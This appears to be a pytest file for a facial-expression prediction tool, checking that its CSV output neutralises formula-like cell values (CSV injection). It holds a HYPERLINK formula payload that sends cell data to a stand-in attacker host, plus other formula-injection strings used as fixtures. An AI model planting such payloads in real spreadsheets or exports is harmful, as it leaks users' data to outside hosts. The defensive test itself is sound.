"""predictions.csv goes to spreadsheets: a file name or a checkpoint's class name starting like a
formula must reach them as text (CSV injection), in the header and in every row."""
from __future__ import annotations

import csv
import io

from fermodels.predict import write_rows

EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"Happy")'


def test_no_csv_cell_starts_like_a_formula():
    classes = (EVIL, "Happy", "@SUM(1+1)")
    row = {"source": "=2+3.jpg", "frame": 0, "face": 0, "box": [-1.5, 2.0, 30.0, 40.0], "score": 0.99,
           "expression": EVIL, EVIL: 0.7, "Happy": 0.2, "@SUM(1+1)": 0.1}
    text = write_rows([row], [], classes, None)
    cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], text
    header, values = list(csv.reader(io.StringIO(text)))
    assert values[0] == "'=2+3.jpg" and header[-3] == "'" + EVIL and values[3] == "-1.5"   # numbers stay numbers
